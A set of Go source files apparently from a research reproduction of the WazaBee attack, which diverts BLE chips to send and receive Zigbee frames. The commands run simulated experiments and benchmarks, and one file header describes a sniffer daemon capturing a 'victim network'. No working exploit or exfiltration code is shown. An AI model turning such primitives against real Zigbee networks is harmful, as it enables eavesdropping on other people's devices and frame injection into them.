	if telemetryOn {
		snap = nw.Snapshot()
		sum.Chip = snap.Chip
		sum.EnergyMicrojoules = snap.EnergyMicrojoules
		sum.RadioSeconds = snap.RadioSeconds
	}

	if cfg.jsonOut {
		enc := json.NewEncoder(out)
		enc.SetIndent("", "  ")
		return enc.Encode(sum)
	}

	fmt.Fprintf(out, "topology %s: %d nodes (%d coordinator, %d routers, %d end devices), seed %d\n",
		cfg.topology, sum.Nodes, coord, routers, endDev, cfg.seed)
	fmt.Fprintf(out, "simulated %v in %v wall (%.0fx real time)\n",
		stats.VirtualTime, wall.Round(time.Millisecond), sum.Speedup)
	fmt.Fprintf(out, "joined %d/%d  frames %d (beacons %d, data %d, acks %d, commands %d)\n",
		stats.Joined, stats.Nodes, stats.Frames, stats.Beacons, stats.DataFrames, stats.Acks, stats.Commands)
	fmt.Fprintf(out, "collisions %d  backoffs %d  cca-failures %d  retries %d  ack-failures %d  erasures %d  deaf-misses %d\n",
		stats.Collisions, stats.Backoffs, stats.CCAFailures, stats.Retries, stats.AckFailures, stats.Erasures, stats.DeafMisses)
	fmt.Fprintf(out, "readings %d  forwarded %d  joins %d  pan-conflicts %d\n",
		stats.Readings, stats.Forwarded, stats.Joins, stats.PANConflicts)
	fmt.Fprintf(out, "events %d  heap-depth max %d  heap-lag max %v\n", stats.Events, stats.HeapDepth, sum.MaxEventLag)
	if snap != nil && (cfg.energy || cfg.nodeReport > 0) {
		fmt.Fprintf(out, "energy %.1f µJ total over %d nodes (%s profile): tx %.3fs rx %.3fs cca %.3fs turnaround %.3fs idle %.3fs\n",
			snap.EnergyMicrojoules, len(snap.Nodes), snap.Chip,
			snap.RadioSeconds["tx"], snap.RadioSeconds["rx"], snap.RadioSeconds["cca"],
			snap.RadioSeconds["turnaround"], snap.RadioSeconds["idle"])
	}
	if snap != nil && cfg.nodeReport > 0 {
		view := *snap
		view.Links = nil
		view.Nodes = sim.TopNodesByEnergy(view.Nodes, cfg.nodeReport)
		sim.WriteSnapshotText(out, &view)
	}
	if traceFile != nil {
		fmt.Fprintf(out, "trace written to %s — load it in ui.perfetto.dev or chrome://tracing\n", cfg.tracePath)
	}
	if rec != nil {
		fmt.Fprintf(out, "digest sha256:%s over %d captures\n", rec.Sum(), rec.Frames())
	}
	if snap := health.Check(); snap.Status != "ok" {
		fmt.Fprintf(out, "health: %s\n", snap.Status)
	}
	if evs := flight.Snapshot(); len(evs) > 0 {
		sort.Slice(evs, func(i, j int) bool { return evs[i].At.Before(evs[j].At) })
		fmt.Fprintf(out, "flight recorder (%d entries, last %d shown):\n", len(evs), min(3, len(evs)))
		for _, ev := range evs[max(0, len(evs)-3):] {
			fmt.Fprintf(out, "  %s %s: %s\n", ev.Kind, ev.Component, ev.Detail)
		}
	}
	return nil
}
