// Command table3 regenerates Table III of the paper: the assessment of
// the WazaBee reception and transmission primitives, 100 frames per
// Zigbee channel, on the nRF52832 and CC1352-R1 models, under WiFi
// interference on channels 6 and 11. It prints the measured rows next to
// the published ones.
package main

import (
	"flag"
	"fmt"
	"os"

	"wazabee/internal/chip"
	"wazabee/internal/experiment"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "table3:", err)
		os.Exit(1)
	}
}

func run() error {
	frames := flag.Int("frames", 100, "frames per channel")
	seed := flag.Int64("seed", 1, "random seed")
	side := flag.String("side", "both", "primitive to assess: rx, tx or both")
	wifi := flag.Bool("wifi", true, "enable WiFi interference on channels 6 and 11")
	flag.Parse()

	var sides []experiment.Side
	switch *side {
	case "rx":
		sides = []experiment.Side{experiment.Reception}
	case "tx":
		sides = []experiment.Side{experiment.Transmission}
	case "both":
		sides = []experiment.Side{experiment.Reception, experiment.Transmission}
	default:
		return fmt.Errorf("invalid -side %q (rx, tx, both)", *side)
	}

	cfg := experiment.DefaultConfig()
	cfg.FramesPerChannel = *frames
	cfg.Seed = *seed
	cfg.WiFi = *wifi

	for _, model := range []chip.Model{chip.NRF52832(), chip.CC1352R1()} {
		for _, s := range sides {
			res, err := experiment.Run(cfg, model, s)
			if err != nil {
				return err
			}
			fmt.Println(experiment.FormatComparison(res))
		}
	}
	return nil
}
