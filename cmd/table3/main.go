// Command table3 regenerates Table III of the paper: the assessment of
// the WazaBee reception and transmission primitives, 100 frames per
// Zigbee channel, on the nRF52832 and CC1352-R1 models, under WiFi
// interference on channels 6 and 11. It prints the measured rows next to
// the published ones.
//
// With -metrics the run's full telemetry is printed afterwards: the
// per-channel classification counters, the pipeline's sync/CRC failure
// counters and chip-distance histograms, per-stage timing histograms,
// and a span trace of one instrumented TX→medium→RX round trip. With
// -metrics-addr the same registry is additionally served at /metrics
// (Prometheus text; ?format=json for the JSON snapshot) next to
// net/http/pprof, and the process stays alive for scraping.
package main

import (
	"context"
	"flag"
	"fmt"
	"net/http"
	_ "net/http/pprof"
	"os"
	"os/signal"

	"wazabee/internal/chip"
	"wazabee/internal/experiment"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/radio"
	"wazabee/internal/zigbee"
)

func main() {
	obs.RegisterBuildInfo(nil)
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "table3:", err)
		os.Exit(1)
	}
}

func run() error {
	frames := flag.Int("frames", 100, "frames per channel")
	seed := flag.Int64("seed", 1, "random seed")
	side := flag.String("side", "both", "primitive to assess: rx, tx or both")
	wifi := flag.Bool("wifi", true, "enable WiFi interference on channels 6 and 11")
	workers := flag.Int("workers", 0, "Monte-Carlo worker pool size; 0 = GOMAXPROCS (results are identical at any value)")
	checkpoint := flag.String("checkpoint", "", "checkpoint file prefix; each chip/side run persists completed shards to <prefix>.<chip>.<side>.json and resumes from it (Ctrl-C is a clean interruption)")
	ciHalf := flag.Float64("ci", 0, "adaptive stop: end each channel once the 95% CI half-width of its valid rate reaches this target; 0 = fixed frame count")
	fidelity := flag.String("fidelity", "iq", "frame-delivery tier: iq (full DSP ground truth), symbol (calibrated per-symbol draws) or frame (closed-form erasures)")
	metrics := flag.Bool("metrics", false, "print the telemetry snapshot and a traced round trip after the run")
	metricsAddr := flag.String("metrics-addr", "", "serve /metrics and net/http/pprof on this address (e.g. :9090); implies -metrics and keeps the process alive")
	flag.Parse()

	var sides []experiment.Side
	switch *side {
	case "rx":
		sides = []experiment.Side{experiment.Reception}
	case "tx":
		sides = []experiment.Side{experiment.Transmission}
	case "both":
		sides = []experiment.Side{experiment.Reception, experiment.Transmission}
	default:
		return fmt.Errorf("invalid -side %q (rx, tx, both)", *side)
	}

	reg := obs.NewRegistry()
	// Pre-register the failure families at zero so a clean run still
	// exports them — absence of a series should mean "not instrumented",
	// never "nothing failed".
	for _, decoder := range []string{"wazabee", "oqpsk"} {
		reg.Counter("wazabee_sync_failures_total", "decoder", decoder)
		reg.Counter("wazabee_crc_checks_total", "decoder", decoder, "result", "fail")
	}
	if *metricsAddr != "" {
		*metrics = true
		http.Handle("/metrics", reg)
		go func() {
			if err := http.ListenAndServe(*metricsAddr, nil); err != nil {
				fmt.Fprintln(os.Stderr, "table3: metrics server:", err)
			}
		}()
		fmt.Printf("serving /metrics and /debug/pprof on %s\n\n", *metricsAddr)
	}

	fid, err := radio.ParseFidelity(*fidelity)
	if err != nil {
		return err
	}

	cfg := experiment.DefaultConfig()
	cfg.FramesPerChannel = *frames
	cfg.Seed = *seed
	cfg.WiFi = *wifi
	cfg.Workers = *workers
	cfg.CIHalfWidth = *ciHalf
	cfg.Fidelity = fid
	cfg.Obs = reg

	// Ctrl-C cancels the sweep cleanly: with -checkpoint set, the
	// completed shards survive and the next identical invocation resumes.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	for _, model := range []chip.Model{chip.NRF52832(), chip.CC1352R1()} {
		for _, s := range sides {
			if *checkpoint != "" {
				cfg.Checkpoint = fmt.Sprintf("%s.%s.%s.json", *checkpoint, model.Name, s)
			}
			res, err := experiment.RunContext(ctx, cfg, model, s)
			if err != nil {
				return err
			}
			fmt.Println(experiment.FormatComparison(res))
		}
	}

	if *metrics {
		if err := printRoundTripTrace(reg, *seed); err != nil {
			return err
		}
		fmt.Println("=== telemetry snapshot (Prometheus text format) ===")
		if err := reg.WritePrometheus(os.Stdout); err != nil {
			return err
		}
		printStageQuantiles(reg)
	}
	if *metricsAddr != "" {
		fmt.Printf("\nstill serving /metrics on %s — Ctrl-C to exit\n", *metricsAddr)
		select {}
	}
	return nil
}

// printRoundTripTrace sends one frame through each primitive with a span
// trace attached — the worked example of what the per-stage telemetry
// measures — and prints both flame trees.
func printRoundTripTrace(reg *obs.Registry, seed int64) error {
	const sps = 8
	model := chip.NRF52832()
	stick := chip.RZUSBStick()
	channel := zigbee.DefaultChannel
	freq, err := ieee802154.ChannelFrequencyMHz(channel)
	if err != nil {
		return err
	}

	frame := ieee802154.NewDataFrame(1, zigbee.DefaultPAN, zigbee.DefaultCoordinator,
		zigbee.DefaultSensor, zigbee.SensorPayload(0x2a), false)
	psdu, err := frame.Encode()
	if err != nil {
		return err
	}
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		return err
	}

	medium, err := radio.NewMedium(float64(sps)*ieee802154.ChipRate, seed)
	if err != nil {
		return err
	}
	zigbeePHY, err := stick.NewZigbeePHY(sps)
	if err != nil {
		return err
	}
	tx, err := model.NewWazaBeeTransmitter(sps)
	if err != nil {
		return err
	}
	rx, err := model.NewWazaBeeReceiver(sps)
	if err != nil {
		return err
	}

	tr := obs.NewTrace(fmt.Sprintf("one frame per side, %s <-> %s, channel %d", model.Name, stick.Name, channel))
	tx.Obs, tx.Trace = reg, tr
	rx.Obs, rx.Trace = reg, tr
	medium.Obs, medium.Trace = reg, tr
	zigbeePHY.Obs, zigbeePHY.Trace = reg, tr
	link := radio.Link{SNRdB: 12, LeadSamples: 40 * sps, LagSamples: 20 * sps}

	// Transmission side: the diverted BLE chip transmits, the
	// legitimate 802.15.4 radio receives.
	span := tr.Start("transmission").SetAttr("channel", channel)
	sig, err := tx.Modulate(ppdu)
	if err != nil {
		return err
	}
	capture, err := medium.Deliver(sig, freq, freq, link)
	if err != nil {
		return err
	}
	if _, err := zigbeePHY.Demodulate(capture); err != nil {
		span.SetAttr("result", err.Error())
	} else {
		span.SetAttr("result", "received")
	}
	span.End()

	// Reception side: the legitimate radio transmits, the diverted BLE
	// chip locks on via the MSK Access Address and despreads.
	span = tr.Start("reception").SetAttr("channel", channel)
	sig, err = zigbeePHY.Modulate(ppdu)
	if err != nil {
		return err
	}
	capture, err = medium.Deliver(sig, freq, freq, link)
	if err != nil {
		return err
	}
	if dem, err := rx.Receive(capture); err != nil {
		span.SetAttr("result", err.Error())
	} else {
		span.SetAttr("result", "received").SetAttr("worst_chip_distance", dem.WorstChipDistance)
	}
	span.End()

	fmt.Println("=== round-trip span trace ===")
	fmt.Print(tr.Tree())
	fmt.Println()
	return nil
}

// printStageQuantiles summarises the per-stage timing histograms as a
// small table — the human-readable companion of the raw bucket dump.
func printStageQuantiles(reg *obs.Registry) {
	rows := false
	for _, s := range reg.Snapshot() {
		if s.Name != obs.StageSecondsMetric || s.Count == 0 {
			continue
		}
		if !rows {
			fmt.Println("\n=== per-stage timings ===")
			fmt.Printf("%-14s %10s %12s %12s %12s\n", "stage", "calls", "mean", "p50", "p99")
			rows = true
		}
		fmt.Printf("%-14s %10d %12s %12s %12s\n",
			s.Labels["stage"], s.Count,
			fmt.Sprintf("%.1fµs", s.Mean*1e6),
			fmt.Sprintf("%.1fµs", s.Quantiles["p50"]*1e6),
			fmt.Sprintf("%.1fµs", s.Quantiles["p99"]*1e6))
	}
}
