// Command persweep extends the paper's evaluation with packet error
// rate versus SNR waterfalls for both primitives: where Table III
// samples one operating point per channel, this sweep locates the
// sensitivity knee and quantifies the Gaussian-approximation penalty of
// transmitting through a BLE modulator. Output is CSV; every PER comes
// with its 95% Wilson interval.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"os/signal"

	"wazabee/internal/chip"
	"wazabee/internal/experiment"
	"wazabee/internal/obs"
	"wazabee/internal/radio"
)

func main() {
	obs.RegisterBuildInfo(nil)
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "persweep:", err)
		os.Exit(1)
	}
}

func run() error {
	frames := flag.Int("frames", 50, "frames per SNR point")
	seed := flag.Int64("seed", 1, "random seed")
	workers := flag.Int("workers", 0, "Monte-Carlo worker pool size; 0 = GOMAXPROCS (results are identical at any value)")
	checkpoint := flag.String("checkpoint", "", "checkpoint file prefix; each chip/side sweep persists completed shards to <prefix>.<chip>.<side>.json and resumes from it (Ctrl-C is a clean interruption)")
	ciHalf := flag.Float64("ci", 0, "adaptive stop: end each SNR point once the 95% CI half-width of its PER reaches this target; 0 = fixed frame count")
	fidelity := flag.String("fidelity", "iq", "frame-delivery tier: iq (full DSP ground truth), symbol (calibrated per-symbol draws) or frame (closed-form erasures)")
	flag.Parse()

	fid, err := radio.ParseFidelity(*fidelity)
	if err != nil {
		return err
	}

	cfg := experiment.DefaultSweepConfig()
	cfg.FramesPerPoint = *frames
	cfg.Seed = *seed
	cfg.Workers = *workers
	cfg.CIHalfWidth = *ciHalf
	cfg.Fidelity = fid

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	fmt.Println("chip,side,snr_db,frames,per,per_lo,per_hi,corrupted,lost")
	for _, model := range []chip.Model{chip.NRF52832(), chip.CC1352R1()} {
		for _, side := range []experiment.Side{experiment.Reception, experiment.Transmission} {
			if *checkpoint != "" {
				cfg.Checkpoint = fmt.Sprintf("%s.%s.%s.json", *checkpoint, model.Name, side)
			}
			points, err := experiment.RunSweepContext(ctx, cfg, model, side)
			if err != nil {
				return err
			}
			for _, p := range points {
				fmt.Printf("%s,%v,%.1f,%d,%.4f,%.4f,%.4f,%.4f,%.4f\n",
					model.Name, side, p.SNRdB, p.Frames, p.PER, p.PERLo, p.PERHi, p.CorruptedRate, p.LossRate)
			}
		}
	}
	return nil
}
