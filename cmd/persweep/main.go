// Command persweep extends the paper's evaluation with packet error
// rate versus SNR waterfalls for both primitives: where Table III
// samples one operating point per channel, this sweep locates the
// sensitivity knee and quantifies the Gaussian-approximation penalty of
// transmitting through a BLE modulator. Output is CSV.
package main

import (
	"flag"
	"fmt"
	"os"

	"wazabee/internal/chip"
	"wazabee/internal/experiment"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "persweep:", err)
		os.Exit(1)
	}
}

func run() error {
	frames := flag.Int("frames", 50, "frames per SNR point")
	seed := flag.Int64("seed", 1, "random seed")
	flag.Parse()

	cfg := experiment.DefaultSweepConfig()
	cfg.FramesPerPoint = *frames
	cfg.Seed = *seed

	fmt.Println("chip,side,snr_db,per,corrupted,lost")
	for _, model := range []chip.Model{chip.NRF52832(), chip.CC1352R1()} {
		for _, side := range []experiment.Side{experiment.Reception, experiment.Transmission} {
			points, err := experiment.RunSweep(cfg, model, side)
			if err != nil {
				return err
			}
			for _, p := range points {
				fmt.Printf("%s,%v,%.1f,%.4f,%.4f,%.4f\n",
					model.Name, side, p.SNRdB, p.PER, p.CorruptedRate, p.LossRate)
			}
		}
	}
	return nil
}
