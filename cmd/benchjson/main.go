// Command benchjson converts `go test -bench` text output into a
// machine-readable JSON report (BENCH.json), so benchmark history can be
// diffed and the streaming-pipeline before/after allocation comparison
// is queryable without re-parsing the bench text format.
//
// Usage:
//
//	go test -bench . -benchmem -count 5 . | tee bench.out
//	go run ./cmd/benchjson -in bench.out -out BENCH.json
//
// Each benchmark line becomes one entry; repeated -count runs of the
// same benchmark are aggregated (mean over runs, per extra metric too).
// For statistical comparison across revisions, feed the same bench.out
// files to benchstat.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"sort"
	"strconv"
	"strings"
	"time"

	"wazabee/internal/obs"
)

// Result aggregates every run of one benchmark.
type Result struct {
	Name string `json:"name"`
	Runs int    `json:"runs"`
	// Iterations is the mean b.N across runs.
	Iterations float64 `json:"iterations"`
	NsPerOp    float64 `json:"ns_per_op"`
	// BytesPerOp / AllocsPerOp come from -benchmem; absent metrics stay
	// zero and are listed in Metrics only when reported.
	BytesPerOp  float64 `json:"bytes_per_op"`
	AllocsPerOp float64 `json:"allocs_per_op"`
	// Metrics holds every extra b.ReportMetric unit (valid%, stage
	// timings, ...), mean over runs.
	Metrics map[string]float64 `json:"metrics,omitempty"`
}

type report struct {
	Goos       string   `json:"goos,omitempty"`
	Goarch     string   `json:"goarch,omitempty"`
	Pkg        string   `json:"pkg,omitempty"`
	CPU        string   `json:"cpu,omitempty"`
	Benchmarks []Result `json:"benchmarks"`
}

// parse consumes go-test bench output and aggregates per-benchmark sums;
// header key/value lines (goos:, pkg:, ...) fill the report preamble.
func parse(r io.Reader) (*report, error) {
	rep := &report{}
	sums := map[string]*Result{}
	var order []string

	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 1<<20), 1<<20)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		switch {
		case strings.HasPrefix(line, "goos:"):
			rep.Goos = strings.TrimSpace(strings.TrimPrefix(line, "goos:"))
			continue
		case strings.HasPrefix(line, "goarch:"):
			rep.Goarch = strings.TrimSpace(strings.TrimPrefix(line, "goarch:"))
			continue
		case strings.HasPrefix(line, "pkg:"):
			rep.Pkg = strings.TrimSpace(strings.TrimPrefix(line, "pkg:"))
			continue
		case strings.HasPrefix(line, "cpu:"):
			rep.CPU = strings.TrimSpace(strings.TrimPrefix(line, "cpu:"))
			continue
		case !strings.HasPrefix(line, "Benchmark"):
			continue
		}

		fields := strings.Fields(line)
		if len(fields) < 3 {
			continue
		}
		// Strip the -<GOMAXPROCS> suffix so counts aggregate by name.
		name := fields[0]
		if i := strings.LastIndex(name, "-"); i > 0 {
			if _, err := strconv.Atoi(name[i+1:]); err == nil {
				name = name[:i]
			}
		}
		iters, err := strconv.ParseFloat(fields[1], 64)
		if err != nil {
			continue
		}
		res := sums[name]
		if res == nil {
			res = &Result{Name: name, Metrics: map[string]float64{}}
			sums[name] = res
			order = append(order, name)
		}
		res.Runs++
		res.Iterations += iters
		// The rest of the line is value/unit pairs.
		for i := 2; i+1 < len(fields); i += 2 {
			v, err := strconv.ParseFloat(fields[i], 64)
			if err != nil {
				continue
			}
			switch fields[i+1] {
			case "ns/op":
				res.NsPerOp += v
			case "B/op":
				res.BytesPerOp += v
			case "allocs/op":
				res.AllocsPerOp += v
			default:
				res.Metrics[fields[i+1]] += v
			}
		}
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}

	sort.Strings(order)
	for _, name := range order {
		res := sums[name]
		n := float64(res.Runs)
		res.Iterations /= n
		res.NsPerOp /= n
		res.BytesPerOp /= n
		res.AllocsPerOp /= n
		for k := range res.Metrics {
			res.Metrics[k] /= n
		}
		if len(res.Metrics) == 0 {
			res.Metrics = nil
		}
		rep.Benchmarks = append(rep.Benchmarks, *res)
	}
	return rep, nil
}

// historyRecord is one appended line of the benchmark history: the full
// report stamped with when it was taken, so the perf trajectory across
// revisions survives BENCH.json being overwritten every run.
type historyRecord struct {
	At string `json:"at"`
	report
}

// appendHistory appends the report as one compact timestamped JSON
// line — unless the file's last line already holds an identical report
// (timestamp aside), in which case the append is skipped: re-running
// `make bench` without a perf change must not bloat the history with
// duplicate entries. It reports whether a line was written.
func appendHistory(path string, rep *report, at time.Time) (bool, error) {
	if dup, err := lastHistoryMatches(path, rep); err != nil {
		return false, err
	} else if dup {
		return false, nil
	}
	line, err := json.Marshal(historyRecord{At: at.UTC().Format(time.RFC3339), report: *rep})
	if err != nil {
		return false, err
	}
	f, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		return false, err
	}
	if _, err := f.Write(append(line, '\n')); err != nil {
		f.Close()
		return false, err
	}
	return true, f.Close()
}

// lastHistoryMatches reports whether the final line of the history file
// decodes to the same report as rep, ignoring the At timestamp.
// A missing file, an empty file or an unparseable last line all count
// as "no match" — appending is always safe then.
func lastHistoryMatches(path string, rep *report) (bool, error) {
	f, err := os.Open(path)
	if err != nil {
		if os.IsNotExist(err) {
			return false, nil
		}
		return false, err
	}
	defer f.Close()
	var last string
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 0, 1<<20), 1<<20)
	for sc.Scan() {
		if line := strings.TrimSpace(sc.Text()); line != "" {
			last = line
		}
	}
	if err := sc.Err(); err != nil {
		return false, err
	}
	if last == "" {
		return false, nil
	}
	var prev historyRecord
	if err := json.Unmarshal([]byte(last), &prev); err != nil {
		return false, nil
	}
	prevJSON, err := json.Marshal(prev.report)
	if err != nil {
		return false, nil
	}
	repJSON, err := json.Marshal(*rep)
	if err != nil {
		return false, err
	}
	return string(prevJSON) == string(repJSON), nil
}

func run(inPath, outPath, historyPath string) error {
	var in io.Reader = os.Stdin
	if inPath != "" && inPath != "-" {
		f, err := os.Open(inPath)
		if err != nil {
			return err
		}
		defer f.Close()
		in = f
	}
	rep, err := parse(in)
	if err != nil {
		return err
	}
	if len(rep.Benchmarks) == 0 {
		return fmt.Errorf("no benchmark lines found in input")
	}
	if historyPath != "" {
		if _, err := appendHistory(historyPath, rep, time.Now()); err != nil {
			return fmt.Errorf("append history: %w", err)
		}
	}
	data, err := json.MarshalIndent(rep, "", "  ")
	if err != nil {
		return err
	}
	data = append(data, '\n')
	if outPath == "" || outPath == "-" {
		_, err = os.Stdout.Write(data)
		return err
	}
	return os.WriteFile(outPath, data, 0o644)
}

func main() {
	obs.RegisterBuildInfo(nil)
	inPath := flag.String("in", "-", "bench output file (- for stdin)")
	outPath := flag.String("out", "-", "JSON report path (- for stdout)")
	historyPath := flag.String("history", "", "append the report as one timestamped JSON line here (e.g. BENCH_history.jsonl); empty disables")
	flag.Parse()
	if err := run(*inPath, *outPath, *historyPath); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson:", err)
		os.Exit(1)
	}
}
