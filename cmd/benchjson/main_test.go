package main

import (
	"strings"
	"testing"
)

const sample = `goos: linux
goarch: amd64
pkg: wazabee
cpu: Intel(R) Xeon(R) Processor @ 2.10GHz
BenchmarkWazaBeeRX-4 	     200	    261553 ns/op	    225206 aa-correlate-ns/op	    5948 B/op	      90 allocs/op
BenchmarkWazaBeeRX-4 	     220	    241553 ns/op	    215206 aa-correlate-ns/op	    5900 B/op	      90 allocs/op
BenchmarkRxStream-4  	     200	    288145 ns/op	    2448 B/op	      59 allocs/op
PASS
ok  	wazabee	0.245s
`

func TestParseAggregates(t *testing.T) {
	rep, err := parse(strings.NewReader(sample))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Goos != "linux" || rep.Pkg != "wazabee" || !strings.Contains(rep.CPU, "Xeon") {
		t.Errorf("preamble = %+v", rep)
	}
	if len(rep.Benchmarks) != 2 {
		t.Fatalf("%d benchmarks, want 2", len(rep.Benchmarks))
	}
	byName := map[string]Result{}
	for _, b := range rep.Benchmarks {
		byName[b.Name] = b
	}
	rx := byName["BenchmarkWazaBeeRX"]
	if rx.Runs != 2 {
		t.Errorf("runs = %d, want 2 (GOMAXPROCS suffix stripped, counts merged)", rx.Runs)
	}
	if rx.NsPerOp != (261553.0+241553.0)/2 {
		t.Errorf("ns/op mean = %v", rx.NsPerOp)
	}
	if rx.AllocsPerOp != 90 || rx.BytesPerOp != 5924 {
		t.Errorf("mem = %v B/op, %v allocs/op", rx.BytesPerOp, rx.AllocsPerOp)
	}
	if rx.Metrics["aa-correlate-ns/op"] != (225206.0+215206.0)/2 {
		t.Errorf("extra metric = %v", rx.Metrics["aa-correlate-ns/op"])
	}
	stream := byName["BenchmarkRxStream"]
	if stream.Runs != 1 || stream.AllocsPerOp != 59 || stream.Metrics != nil {
		t.Errorf("stream entry = %+v", stream)
	}
	if _, err := parse(strings.NewReader("PASS\n")); err != nil {
		t.Errorf("empty input must parse (error handled by run): %v", err)
	}
}
