package main

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

const sample = `goos: linux
goarch: amd64
pkg: wazabee
cpu: Intel(R) Xeon(R) Processor @ 2.10GHz
BenchmarkWazaBeeRX-4 	     200	    261553 ns/op	    225206 aa-correlate-ns/op	    5948 B/op	      90 allocs/op
BenchmarkWazaBeeRX-4 	     220	    241553 ns/op	    215206 aa-correlate-ns/op	    5900 B/op	      90 allocs/op
BenchmarkRxStream-4  	     200	    288145 ns/op	    2448 B/op	      59 allocs/op
PASS
ok  	wazabee	0.245s
`

func TestParseAggregates(t *testing.T) {
	rep, err := parse(strings.NewReader(sample))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Goos != "linux" || rep.Pkg != "wazabee" || !strings.Contains(rep.CPU, "Xeon") {
		t.Errorf("preamble = %+v", rep)
	}
	if len(rep.Benchmarks) != 2 {
		t.Fatalf("%d benchmarks, want 2", len(rep.Benchmarks))
	}
	byName := map[string]Result{}
	for _, b := range rep.Benchmarks {
		byName[b.Name] = b
	}
	rx := byName["BenchmarkWazaBeeRX"]
	if rx.Runs != 2 {
		t.Errorf("runs = %d, want 2 (GOMAXPROCS suffix stripped, counts merged)", rx.Runs)
	}
	if rx.NsPerOp != (261553.0+241553.0)/2 {
		t.Errorf("ns/op mean = %v", rx.NsPerOp)
	}
	if rx.AllocsPerOp != 90 || rx.BytesPerOp != 5924 {
		t.Errorf("mem = %v B/op, %v allocs/op", rx.BytesPerOp, rx.AllocsPerOp)
	}
	if rx.Metrics["aa-correlate-ns/op"] != (225206.0+215206.0)/2 {
		t.Errorf("extra metric = %v", rx.Metrics["aa-correlate-ns/op"])
	}
	stream := byName["BenchmarkRxStream"]
	if stream.Runs != 1 || stream.AllocsPerOp != 59 || stream.Metrics != nil {
		t.Errorf("stream entry = %+v", stream)
	}
	if _, err := parse(strings.NewReader("PASS\n")); err != nil {
		t.Errorf("empty input must parse (error handled by run): %v", err)
	}
}

// TestHistoryAppends checks the perf-trajectory log: each run with new
// numbers appends one timestamped JSON line, never truncating earlier
// entries, while a rerun with identical numbers is deduplicated (see
// TestHistoryDedupesConsecutiveDuplicates).
func TestHistoryAppends(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "bench.out")
	hist := filepath.Join(dir, "BENCH_history.jsonl")
	// Two runs with different numbers: both must survive.
	changed := strings.Replace(sample, "288145 ns/op", "250000 ns/op", 1)
	for i, text := range []string{sample, changed} {
		if err := os.WriteFile(in, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := run(in, filepath.Join(dir, "BENCH.json"), hist); err != nil {
			t.Fatalf("run %d: %v", i, err)
		}
	}
	f, err := os.Open(hist)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	lines := 0
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		lines++
		var rec struct {
			At         string   `json:"at"`
			Goos       string   `json:"goos"`
			Benchmarks []Result `json:"benchmarks"`
		}
		if err := json.Unmarshal(sc.Bytes(), &rec); err != nil {
			t.Fatalf("history line %d is not valid JSON: %v", lines, err)
		}
		if _, err := time.Parse(time.RFC3339, rec.At); err != nil {
			t.Fatalf("history line %d timestamp %q: %v", lines, rec.At, err)
		}
		if rec.Goos != "linux" || len(rec.Benchmarks) != 2 {
			t.Fatalf("history line %d lost the report: %+v", lines, rec)
		}
	}
	if lines != 2 {
		t.Fatalf("%d history lines after two runs, want 2", lines)
	}
}

// TestHistoryDedupesConsecutiveDuplicates checks that re-running the
// converter over unchanged bench numbers does not grow the history: the
// last line already carries that report (timestamp aside), so the append
// is skipped. A later run with different numbers must append again.
func TestHistoryDedupesConsecutiveDuplicates(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "bench.out")
	hist := filepath.Join(dir, "BENCH_history.jsonl")
	lines := func() int {
		f, err := os.Open(hist)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		n := 0
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			if strings.TrimSpace(sc.Text()) != "" {
				n++
			}
		}
		return n
	}

	if err := os.WriteFile(in, []byte(sample), 0o644); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		if err := run(in, filepath.Join(dir, "BENCH.json"), hist); err != nil {
			t.Fatalf("run %d: %v", i, err)
		}
	}
	if got := lines(); got != 1 {
		t.Fatalf("%d history lines after three identical runs, want 1 (duplicates must dedupe)", got)
	}

	changed := strings.Replace(sample, "288145 ns/op", "123456 ns/op", 1)
	if err := os.WriteFile(in, []byte(changed), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run(in, filepath.Join(dir, "BENCH.json"), hist); err != nil {
		t.Fatal(err)
	}
	if got := lines(); got != 2 {
		t.Fatalf("%d history lines after a changed report, want 2", got)
	}
	// And duplicates of the *new* last line dedupe too.
	if err := run(in, filepath.Join(dir, "BENCH.json"), hist); err != nil {
		t.Fatal(err)
	}
	if got := lines(); got != 2 {
		t.Fatalf("%d history lines after re-running the changed report, want 2", got)
	}
}
