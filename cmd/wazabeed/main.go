// wazabeed is the long-running sniffer daemon: it runs the live victim
// network next to a WazaBee receiver (a diverted BLE chip), tees every
// decoded 802.15.4 frame into a rotating pcap file, and serves the
// capture stream to any number of concurrent subscribers — over TCP as
// length-prefixed records and over UDP as ZEP v2 datagrams — while
// exposing the process's /metrics and pprof handlers.
//
//	wazabeed -listen :7754 -zep-listen :17754 -pcap wazabee.pcap -metrics-addr :9090
//
// TCP subscribers connect and read framed capture.Record values; ZEP
// subscribers send any datagram to the UDP port to subscribe and then
// receive one ZEP v2 packet per captured frame (Wireshark dissects
// them natively: udp.port == 17754).
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	_ "net/http/pprof"
	"os"
	"os/signal"
	"sync"
